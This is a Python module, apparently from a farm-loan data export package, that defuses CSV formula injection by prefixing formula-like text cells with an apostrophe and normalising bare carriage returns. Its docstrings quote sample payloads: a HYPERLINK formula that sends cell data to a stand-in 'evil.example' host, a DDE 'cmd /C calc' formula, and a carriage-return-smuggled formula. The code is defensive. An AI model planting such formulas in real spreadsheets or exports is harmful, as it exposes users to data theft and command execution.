"""Text cells a spreadsheet would run as formulas (CSV/formula injection), made inert.

Loan-book values (farm, loan and borrower ids, regions) reach every export, and a cell such as
``=HYPERLINK("http://evil.example/?x="&A1)`` or ``@SUM(1+1)*cmd|" /C calc"!A0`` in a CSV
opened in Excel or WPS is a formula, not text. The rule is OWASP's: a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` -- unless it
is a plain number (``-12.5``, ``+3``, ``-1,5``), which a spreadsheet reads as that number and
which changing would corrupt. Numeric columns are never touched. The ``'`` is the one change,
so a reader can undo it (strip a leading ``'`` followed by one of those characters); it is
not a lossless round trip for text that already started with ``'`` and one of them.
A bare carriage return inside a CSV text cell becomes a line feed (:func:`defuse_frame` says
why): the cell stays one quoted cell instead of ending the row.

Parquet and GeoJSON are for machines and keep the values exact; XLSX stores such values as
typed text cells (:mod:`agrisat.export`), which a spreadsheet never evaluates, also unchanged.
"""

from __future__ import annotations

import re
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["FORMULA_STARTS", "defuse_cell", "defuse_frame", "formula_like"]

#: first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

#: a plain number as text (sign, digits, decimal and group marks, exponent)
_NUMERIC_TEXT = re.compile(r"[+-]?[\d.,\s]*\d[\d.,\s]*(?:[eE][+-]?\d+)?")
_STARTS = r"[=+\-@\t\r]"
_BARE_CR = re.compile(r"\r(?!\n)")


def formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet would run as a formula (see the module doc)."""
    return (
        isinstance(value, str)
        and value[:1] in FORMULA_STARTS
        and _NUMERIC_TEXT.fullmatch(value) is None
    )


def defuse_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is :func:`formula_like`, else ``value`` itself."""
    return "'" + value if formula_like(value) else value


def defuse_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` for a CSV: text columns' formula-like cells prefixed with ``'``
    (:func:`defuse_cell`), numeric, boolean and date columns untouched. Returns a copy when
    something changed, ``df`` itself otherwise.

    A carriage return inside a text cell that does not start a CRLF also becomes a line feed:
    written with LF line ends, pandas (Python's csv) quotes a cell holding a line feed but not
    one holding only a carriage return, and spreadsheets and CSV readers end the row at the
    bare CR -- the rest of the cell would start a row of its own (``x\r=HYPERLINK(...)``),
    past any formula check.
    """
    out = df
    for col in df.columns:
        s = df[col]
        if not (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)):
            continue
        try:
            # column-wise first (an observations export has millions of cells)
            cand = s.str.match(_STARTS, na=False) | s.str.contains("\r", regex=False, na=False)
        except AttributeError:  # an object column without text
            continue
        pos = np.flatnonzero(cand.to_numpy(dtype=bool))
        if not len(pos):
            continue
        was = s.iloc[pos].tolist()
        now = [_BARE_CR.sub("\n", defuse_cell(v)) for v in was]
        if now == was:
            continue
        if out is df:
            out = df.copy()
        fixed = s.astype(object).copy()
        fixed.iloc[pos] = now
        out[col] = fixed.astype(s.dtype)
    return out
